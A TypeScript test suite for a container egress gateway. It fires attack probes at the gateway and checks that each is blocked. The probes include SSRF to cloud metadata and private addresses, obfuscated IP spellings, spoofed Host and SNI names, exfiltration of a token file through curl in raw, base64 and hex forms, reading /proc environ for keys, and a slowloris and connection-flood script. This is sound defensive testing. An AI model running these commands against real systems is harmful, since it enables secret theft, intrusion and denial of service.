import { createServer, type Socket } from 'node:net'
import { monitorEventLoopDelay } from 'node:perf_hooks'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, beforeEach, describe, expect } from 'vitest'
import type { BoxKind } from '../../src/domain/box.ts'
import type { Egress, EgressCounts, EgressDecision } from '../../src/domain/egress.ts'
import type { Gateway, Leak, Overseer } from '../../src/domain/gateway.ts'
import { createGateway } from '../../src/gateway/gateway.ts'
import type { GatewayLimits } from '../../src/gateway/limits.ts'
import { dialTcp } from '../../src/gateway/network.ts'
import { anthropic } from '../../src/gateway/upstreams/anthropic.ts'
import { docker } from '../support/docker.ts'
import { Notes } from '../support/box.ts'
import { attack } from './attack.ts'
import { Answers, type Attempts, probe, python } from './probe.ts'
import { openStage, type Stage } from './stage.ts'

// A box with a channel, the real gateway behind it, and a world of the test's own: names under .test lead where this table
// says, and whatever is dialled reaches one server on loopback, which notes all that comes.

const publicAddress = '93.184.216.34'
const names: Readonly<Record<string, readonly string[]>> = {
  'allowed.test': [publicAddress],
  'inside.test': ['10.0.0.5'],
  'host.test': ['127.0.0.1'],
  'metadata.test': ['169.254.169.254'],
  'rebinding.test': [publicAddress, '10.0.0.5'],
}
const realKey = 'sk-real-0123456789abcdef0123456789'
const token = 'deploy-token-9f8e7d6c5b4a'

interface Far extends AsyncDisposable {
  readonly port: number
  /** What came, connection by connection. */
  readonly seen: string[]
  /** The bytes of all connections. */
  bytes: number
}

async function openFar(): Promise<Far> {
  const sockets = new Set<Socket>()
  const server = createServer((socket) => {
    const index = far.seen.push('') - 1
    sockets.add(socket.on('error', () => undefined))
    socket.on('data', (chunk) => {
      far.bytes += chunk.length
      const text = ((far.seen[index] ?? '') + chunk.toString('latin1')).slice(0, 100_000)
      far.seen[index] = text
      if (!text.includes('\r\n\r\n')) return
      const [, path = ''] = text.split(' ')
      if (path.includes('/redirect'))
        socket.end(
          'HTTP/1.1 302 Found\r\nLocation: http://inside.test/\r\nContent-Length: 0\r\nConnection: close\r\n\r\n',
        )
      else if (path.includes('/v1/messages')) socket.end(answer)
      else if (!text.startsWith('POST /endless'))
        socket.end('HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nFAR')
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('no port')
  const far: Far = {
    port: address.port,
    seen: [],
    bytes: 0,
    async [Symbol.asyncDispose]() {
      for (const socket of sockets) socket.destroy()
      await new Promise((resolve) => server.close(resolve))
    },
  }
  return far
}

const body = JSON.stringify({ model: 'm', usage: { input_tokens: 3, output_tokens: 4 }, content: [] })
const answer = `HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`

const rule = (host: string, ports: readonly number[]) => ({ host, ports, inside: false, why: 'policy' })
const open: Egress = {
  tunnels: ['allowed.test', 'inside.test', 'host.test', 'metadata.test', 'rebinding.test'].map((name) =>
    rule(name, [443, 80]),
  ),
  upstreams: ['anthropic'],
  limits: { connections: 64, upMb: 4, downMb: 4 },
}

let stage: Stage
let far: Far
let gateway: Gateway
let resolved: string[]
let dialled: string[]
let decisions: EgressDecision[]
let leaks: Leak[]

beforeAll(async () => {
  stage = await openStage({ 'a.txt': 'a\n', 'token.txt': token })
  far = await openFar()
  gateway = openGateway({})
})
function openGateway(limits: Partial<GatewayLimits>): Gateway {
  return createGateway({
    limits,
    upstreams: [anthropic({ origin: 'http://model.test', key: realKey })],
    secrets: [{ name: 'deploy-token', value: token }],
    prices: {},
    clock: Date.now,
    resolve: (name) => {
      resolved.push(name)
      const found = name === 'model.test' ? [publicAddress] : names[name]
      return found === undefined ? Promise.reject(new Error('no such name')) : Promise.resolve(found)
    },
    dial: (address, port, signal) => {
      dialled.push(`${address}:${port}`)
      return dialTcp('127.0.0.1', far.port, signal)
    },
  })
}
afterAll(async () => {
  await far[Symbol.asyncDispose]()
  await stage[Symbol.asyncDispose]()
})
beforeEach(() => {
  resolved = []
  dialled = []
  decisions = []
  leaks = []
  far.seen.length = 0
  far.bytes = 0
})

const overseer: Overseer = {
  decided: (decision) => void decisions.push(decision),
  left: () => ({ tokens: null, costUsd: null }),
  spent: () => undefined,
  exhausted: () => undefined,
  unavailable: () => undefined,
  leaked: (leak) => void leaks.push(leak),
}

/** Runs a box whose channel leads to the gateway. `during` is called when it runs. */
async function walled(
  argv: readonly string[],
  {
    kind = 'agent',
    egress = open,
    by = overseer,
    through = gateway,
    accepted,
    counted,
    during,
  }: {
    /** One agent box of a task runs at a time. */
    kind?: BoxKind
    egress?: Egress
    by?: Overseer
    through?: Gateway
    /** Called for every connection that comes from the box. */
    accepted?: () => void
    /** Called with what the gateway has counted at the box's end. */
    counted?: (counts: EgressCounts) => void
    during?: (name: string) => Promise<void>
  } = {},
): Promise<string> {
  const spec = await stage.spec(argv, { kind, egress })
  const passage = through.open(spec, by)
  const notes = new Notes()
  const materials = {
    ...stage.materials,
    accept: (connection: NodeJS.ReadWriteStream) => {
      accepted?.()
      passage.accept(connection)
    },
  }
  try {
    const running = stage.engine.run(spec, materials, notes, new AbortController().signal)
    if (during !== undefined) {
      while (notes.starts.length === 0) await sleep(10)
      await during(spec.name)
    }
    return (await running).output
  } finally {
    counted?.(passage.counts())
    await passage.close()
    await stage.engine.remove(spec.name)
  }
}

const tried = async (attempts: Attempts, options: Parameters<typeof walled>[1] = {}): Promise<Answers> =>
  new Answers(await walled(probe(attempts), options))

/** CONNECT by hand, as the bytes stand here; succeeds where the gateway says 200. `then`: what is sent afterwards. */
const connect = (target: string, then = ''): string =>
  python(`import socket, sys
s = socket.create_connection(("127.0.0.1", 3128), 5)
s.settimeout(5)
s.sendall(${JSON.stringify(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`)}.encode("latin1"))
line = s.recv(4096).decode("latin1")
print(line[:300])
if " 200 " not in line.split("\\n")[0]: sys.exit(1)
${then}`)

/** A plain request through the proxy, as it stands here; succeeds where it is answered with 200. */
const ask = (head: string): string =>
  python(`import socket, sys
s = socket.create_connection(("127.0.0.1", 3128), 5)
s.settimeout(5)
s.sendall(${JSON.stringify(head)}.encode("latin1"))
text = s.recv(65536).decode("latin1")
print(text[:300])
sys.exit(0 if " 200 " in text.split("\\n")[0] else 1)`)
const get = (url: string, more = ''): string =>
  ask(
    `GET ${url} HTTP/1.1\r\nHost: ${/^http:\/\/([^/]*)/.exec(url)?.[1] ?? ''}\r\n${more}Connection: close\r\n\r\n`,
  )

/** What the box tells of the flood: how many connections were open at the end, answered with 503, and closed without an answer. */
interface Flood {
  readonly kept: number
  readonly turned: number
  readonly cut: number
  /** How long each head that came byte by byte was listened to, seconds. */
  readonly slow: readonly number[]
}

const flood = `import json, select, socket, threading, time
def dial():
    s = socket.create_connection(("127.0.0.1", 3128), 10)
    s.settimeout(10)
    return s
begun, over = threading.Semaphore(0), threading.Event()
slow = []
def creep():
    s = dial()
    since = time.monotonic()
    s.sendall(b"GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nX-Slow: ")
    begun.release()
    try:
        while time.monotonic() - since < 15:
            s.sendall(b"x")
            if select.select([s], [], [], 0.1)[0] and s.recv(1000) == b"": break
    except OSError: pass
    slow.append(time.monotonic() - since)
def upload():
    s = dial()
    s.sendall(b"POST http://allowed.test/endless HTTP/1.1\\r\\nHost: allowed.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
    begun.release()
    try:
        while not over.is_set():
            s.sendall(b"10000\\r\\n" + b"x" * 65536 + b"\\r\\n")
            time.sleep(0.02)
    except OSError: pass
threads = [threading.Thread(target=each) for each in (upload, creep, creep, creep, creep)]
for each in threads: each.start()
for each in threads: begun.acquire()
time.sleep(0.2) # until the gateway has them all
poll, standing, turned, cut = select.epoll(), {}, 0, 0
def drain(wait):
    global turned, cut
    for fd, _ in poll.poll(wait):
        s = standing.pop(fd)
        try: said = s.recv(1000)
        except OSError: said = b""
        if b" 503 " in said: turned += 1
        else: cut += 1
        poll.unregister(fd)
        s.close()
for n in range(10000):
    s = dial()
    standing[s.fileno()] = s
    poll.register(s, select.EPOLLIN)
    try: s.sendall(b"GET http://allo")
    except OSError: pass
    if n % 20 == 19: drain(0)
before = -1
while before != len(standing):
    before = len(standing)
    drain(0.3)
kept = len(standing)
over.set()
for each in threads: each.join()
print(json.dumps({"kept": kept, "turned": turned, "cut": cut, "slow": slow}))`

/** Each target by CONNECT and by a plain request. */
const both = (label: string, hosts: readonly string[]): Attempts =>
  Object.fromEntries(
    hosts.flatMap((host) => [
      [`${label} CONNECT ${host}`, connect(`${host}:443`)],
      [`${label} GET ${host}`, get(`http://${host}/`)],
    ]),
  )

const hello = `import ssl
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
def begin(name):
    try: c.wrap_socket(s, server_hostname=name)
    except (ssl.SSLError, OSError) as e: print(e)`

describe('what a channel leads to', () => {
  attack(
    'A060 addresses of the host, its links and of metadata services',
    'Ask by CONNECT and in plain for metadata addresses and names, carrier, loopback, link and private ranges, and for names that lead there.',
    async ({ saw }) => {
      const hosts = [
        '169.254.169.254',
        'metadata.google.internal',
        '100.64.0.1',
        '127.0.0.1',
        'localhost',
        '[::1]',
        '[fd00::1]',
        '10.0.0.5',
        'inside.test',
        'host.test',
        'metadata.test',
        'rebinding.test',
      ]
      const answers = await tried({ ...both('A060', hosts), reached: get('http://allowed.test/') })
      saw(answers.refused('A060'))
      expect(answers.get('reached').code).toBe(0)
      expect(dialled).toEqual([`${publicAddress}:80`])
      expect(decisions.filter(({ verdict }) => verdict === 'denied').length).toBe(2 * hosts.length)
      saw('Of all that was asked for, only the one allowed name was dialled; each refusal is on record.')
    },
  )

  attack(
    'A062 addresses in other spellings',
    'Write 127.0.0.1, 169.254.169.254 and an allowed address in decimal, octal, hex, short, mapped and full-width forms.',
    async ({ saw }) => {
      const hosts = [
        '2130706433',
        '0177.0.0.1',
        '0x7f.0.0.1',
        '0x7f000001',
        '127.1',
        '127.0.1',
        '[::ffff:127.0.0.1]',
        '[::ffff:7f00:1]',
        '[::127.0.0.1]',
        '[64:ff9b::7f00:1]',
        '2852039166',
        '0',
        '0.0.0.0',
        '127.0.0.1.',
        publicAddress,
      ]
      saw((await tried(both('A062', hosts))).refused('A062'))
      expect([dialled, far.seen, resolved]).toEqual([[], [], []])
      saw('Nothing was resolved or dialled.')
    },
  )

  attack(
    'A063 names that only look allowed',
    'Ask for names around the allowed one: as a part, with a dot, in capitals, with bytes, users and brackets in it, and with look-alike letters.',
    async ({ saw }) => {
      const others = [
        'allowed.test.evil.test',
        'evilallowed.test',
        'sub.allowed.test',
        'allowed.test%00.evil.test',
        'allowed.test%2eevil.test',
        'user@allowed.test',
        'allowed.test@evil.test',
        '[allowed.test]',
        'allowed.test#.evil.test',
        'allowed.test\\.evil.test',
        'xn--llowed-2nf.test',
        'allowed.test..',
        '',
      ]
      const answers = await tried({
        ...both('A063', others),
        'same CAPITALS': get('http://ALLOWED.TEST/'),
        'same with a dot': get('http://allowed.test./'),
      })
      saw(answers.refused('A063'))
      expect(answers.of('same').map(([name, { code }]) => [name, code])).toEqual([
        ['same CAPITALS', 0],
        ['same with a dot', 0],
      ])
      expect(dialled).toEqual([`${publicAddress}:80`, `${publicAddress}:80`])
      expect(new Set(resolved)).toEqual(new Set(['allowed.test']))
      saw('Only the one name, in capitals and with a last dot too, was resolved and dialled.')
    },
  )

  attack(
    'A066 another host inside an allowed connection',
    'Tunnel to the allowed name and greet another one, none, or with something that is no TLS; ask in plain with another Host.',
    async ({ saw }) => {
      const closed = `\nleft = s.recv(10)\nprint("closed" if left == b"" else left)`
      const answers = await tried({
        'tunnel right name': connect('allowed.test:443', `${hello}\nbegin("allowed.test")`),
        'tunnel other name': connect('allowed.test:443', `${hello}\nbegin("evil.test")`),
        'tunnel no name': connect('allowed.test:443', `${hello}\nbegin(None)`),
        'tunnel no TLS': connect(
          'allowed.test:443',
          `s.sendall(b"GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")${closed}`,
        ),
        'A066 other Host': ask(
          'GET http://allowed.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n',
        ),
        'A066 two Hosts': ask(
          'GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n',
        ),
      })
      saw(answers.refused('A066'))
      const greeted = far.seen.filter((text) => text !== '')
      expect(greeted.map((text) => [text.includes('allowed.test'), text.includes('evil.test')])).toEqual([
        [true, false],
      ])
      saw(
        'Of four tunnels only the hello that names the allowed host reached the far end; the others were closed.',
      )
      expect(decisions.filter((each) => each.rule === 'sni' && each.verdict === 'denied').length).toBe(3)
    },
  )

  attack(
    'A067 other ports of an allowed host',
    'CONNECT to the allowed name on ports of ssh, mail, and container engines.',
    async ({ saw }) => {
      const ports = [22, 25, 2375, 2376, 8080, 0, 65536, -1]
      const answers = await tried({
        ...Object.fromEntries(ports.map((port) => [`A067 ${port}`, connect(`allowed.test:${port}`)])),
        'A067 none': connect('allowed.test'),
      })
      saw(answers.refused('A067'))
      expect([dialled, far.seen]).toEqual([[], []])
    },
  )

  attack(
    'A069 a redirect to the inside',
    'Have the allowed host answer with a redirect to a name that leads to a private address, and follow it.',
    async ({ saw }) => {
      const answers = await tried({
        'A069 followed': 'curl -sS --fail -L -m 10 -x http://127.0.0.1:3128 http://allowed.test/redirect',
      })
      saw(answers.refused('A069'))
      expect(far.seen.map((text) => text.split('\r\n')[0])).toEqual(['GET /redirect HTTP/1.1'])
      expect(decisions.find(({ host }) => host === 'inside.test')?.verdict).toBe('denied')
      saw('The redirect came back to the box; the second hop was refused and never dialled.')
    },
  )

  attack(
    'A070 secrets on their way out',
    'Send a known secret to an upstream and to an allowed host: in path, query, header and body, raw, base64, also shifted, hex and in two pieces; send the placeholder key elsewhere.',
    async ({ saw }) => {
      const message = (text: string): string =>
        `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"${text}"}]}`
      const post = (text: string): string =>
        `text=${text}; printf '%s' '${message('@')}' | sed "s|@|$text|" | curl -sS --fail -m 10 -H 'content-type: application/json' -H 'x-api-key: placeholder' --data-binary @- http://127.0.0.1:3128/anthropic/v1/messages`
      const plain = (more: string): string => `curl -sS --fail -m 10 -x http://127.0.0.1:3128 ${more}`
      const answers = await tried({
        'A070 body raw': post('$(cat token.txt)'),
        'A070 body base64': post('$(base64 -w0 token.txt)'),
        'A070 body base64, shifted': post('$(printf "x%s" "$(cat token.txt)" | base64 -w0)'),
        'A070 body hex': post('$(od -An -tx1 token.txt | tr -d " \\n")'),
        'A070 path': plain('http://allowed.test/$(cat token.txt)'),
        'A070 query': plain('"http://allowed.test/?q=$(base64 -w0 token.txt)"'),
        'A070 header': plain('-H "X-Note: $(cat token.txt)" http://allowed.test/'),
        'A070 plain body': plain('-d "$(cat token.txt)" http://allowed.test/'),
        'A070 plain body in two pieces': python(`import socket, sys, time
token = open("token.txt", "rb").read()
s = socket.create_connection(("127.0.0.1", 3128), 5)
s.settimeout(5)
s.sendall(b"POST http://allowed.test/endless HTTP/1.1\\r\\nHost: allowed.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
for piece in (token[:10], token[10:]):
    s.sendall(b"%x\\r\\n%s\\r\\n" % (len(piece), piece))
    time.sleep(0.3)
s.sendall(b"0\\r\\n\\r\\n")
sys.exit(0 if b" 200 " in s.recv(1000) else 1)`),
        'A070 no such route': `curl -sS --fail -m 10 -H 'x-api-key: placeholder' http://127.0.0.1:3128/anthropic/v1/files`,
        'A070 no such upstream': `curl -sS --fail -m 10 http://127.0.0.1:3128/other/v1/messages`,
        'placeholder to the allowed host': plain('-H "x-api-key: placeholder" http://allowed.test/'),
        'call of the model': post('hello'),
      })
      saw(answers.refused('A070'))
      expect([
        answers.get('call of the model').code,
        answers.get('placeholder to the allowed host').code,
      ]).toEqual([0, 0])
      const encoded = [
        token,
        token.slice(10),
        Buffer.from(token).toString('base64'),
        Buffer.from(token).toString('hex'),
      ]
      expect(far.seen.filter((text) => encoded.some((each) => text.includes(each)))).toEqual([])
      expect(far.seen.filter((text) => text.includes(realKey)).map((text) => text.split('\r\n')[0])).toEqual([
        'POST /v1/messages HTTP/1.1',
      ])
      expect(JSON.stringify([decisions, leaks])).not.toContain(token)
      expect(new Set(leaks.map(({ secret }) => secret))).toEqual(new Set(['deploy-token']))
      saw(
        'The far end saw no form of the secret; the real key came with the one call to its own upstream and with nothing else.',
      )
    },
  )

  attack(
    'A072 where the real key could lie',
    'While a box uses the upstream, look for the key in its environment, processes and files, in what the engine says of box and image, and in all that it printed.',
    async ({ saw }) => {
      let engineSays = ''
      const output = await walled(
        [
          'sh',
          '-c',
          `env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'
           curl -sS -m 10 -H 'content-type: application/json' -d '{"model":"m","max_tokens":1,"messages":[]}' http://127.0.0.1:3128/anthropic/v1/messages
           find /tmp /home /run /cofferdam /work -type f -size -64k -exec cat {} + 2>/dev/null
           sleep 1`,
        ],
        {
          during: async (name) => {
            const box = docker.getContainer(name)
            const inspected = await box.inspect()
            const history = (await docker.getImage(inspected.Image).history()) as unknown
            const logs = await box.logs({ stdout: true, stderr: true })
            engineSays = JSON.stringify(inspected) + JSON.stringify(history) + logs.toString('latin1')
          },
        },
      )
      expect(far.seen.filter((text) => text.includes(realKey)).length).toBe(1)
      expect(output).toContain('HTTPS_PROXY')
      expect(engineSays).toContain('HTTPS_PROXY')
      expect((output + engineSays).includes(realKey)).toBe(false)
      saw(
        'The call was made with the key, which stood neither in the box, nor in what the engine tells, nor in the output.',
      )
    },
  )

  attack(
    'A073 a flood on the proxy',
    'All at once: upload all the while, send four heads byte by byte, and open ten thousand connections that begin a request and say no more; ask from another box meanwhile. A head has 6 s here, not 30.',
    async ({ saw }) => {
      const headMs = 6000
      const hasty = openGateway({ headMs })
      const lag = monitorEventLoopDelay({ resolution: 5 })
      let came = 0
      let counts: Pick<EgressCounts, 'denied'> = { denied: 0 }
      const others = Object.fromEntries(
        [1, 2, 3, 4, 5, 6].map((n) => [`other ${n}`, `sleep 0.7; ${get('http://allowed.test/')}`]),
      )
      const recorded: EgressDecision[] = []
      const noted: Overseer = { ...overseer, decided: (decision) => void recorded.push(decision) }
      const [answers, beside] = await Promise.all([
        tried(
          { flood: python(flood) },
          {
            through: hasty,
            by: noted,
            counted: (all) => (counts = all),
            accepted: () => {
              if (came === 0) lag.enable()
              came += 1
            },
          },
        ),
        tried(others, { kind: 'setup', through: hasty }),
      ])
      lag.disable()
      const worst = lag.percentile(99) / 1e6
      const { code, out } = answers.get('flood')
      expect([code, out]).toEqual([0, expect.stringMatching(/^\{.*\}\n$/)])
      const told = JSON.parse(out) as Flood
      expect(came).toBeGreaterThanOrEqual(10_000)
      expect(told.kept + told.turned + told.cut).toBe(10_000)
      expect(told.kept).toBeGreaterThan(0)
      // The slow heads had the others, and the upload while it lasted.
      expect(told.kept).toBeLessThanOrEqual(64 - 4)
      // Of all others only those were let in for which a head's time had made room. Whether such a one reads its 503, or finds
      // that nobody has read its head, is a race.
      expect(counts.denied).toBeGreaterThan(9500)
      expect(told.turned).toBeGreaterThan(0)
      saw(
        `Of ten thousand connections ${told.kept} stood open when the last had come, beside the four slow heads, where 64 are the limit; the gateway counted ${counts.denied} refusals.`,
      )
      expect(told.slow).toHaveLength(4)
      for (const seconds of told.slow) {
        expect(seconds * 1000).toBeGreaterThan(headMs - 500)
        expect(seconds * 1000).toBeLessThan(headMs + 3000)
      }
      saw(`Heads that came byte by byte were cut after ${told.slow.map((s) => s.toFixed(1)).join(', ')} s.`)
      expect(far.bytes).toBeGreaterThan(3 * 1024 * 1024)
      expect(far.bytes).toBeLessThan(5 * 1024 * 1024)
      expect(recorded.length).toBeLessThan(100)
      saw(`The upload ended at its limit of 4 MiB, and ${recorded.length} decisions stood on record.`)
      expect(beside.of('other').map(([, { code }]) => code)).toEqual([0, 0, 0, 0, 0, 0])
      expect(worst).toBeLessThan(50)
      saw(
        `The event loop of the gateway lagged ${worst.toFixed(0)} ms at most in 99 of 100 turns, and six requests of another box were answered meanwhile.`,
      )
    },
  )

  attack(
    'A074 a gateway that cannot decide',
    'Ask where no rule is, where nothing can be recorded, and where the gateway has gone.',
    async ({ saw }) => {
      const attempts = {
        ...both('A074', ['allowed.test']),
        'A074 model': 'curl -sS --fail -m 5 http://127.0.0.1:3128/anthropic/v1/models',
      }
      const nothing: Egress = { tunnels: [], upstreams: [], limits: open.limits }
      saw(`Without a rule: ${(await tried(attempts, { egress: nothing })).refused('A074')}`)
      const deaf: Overseer = {
        ...overseer,
        decided: () => {
          throw new Error('the disk is full')
        },
      }
      saw(`Without a record: ${(await tried(attempts, { by: deaf })).refused('A074')}`)
      const gone = await stage.probe(attempts, { egress: open })
      saw(`Without a gateway: ${gone.refused('A074')}`)
      expect([dialled, far.seen]).toEqual([[], []])
    },
  )
})
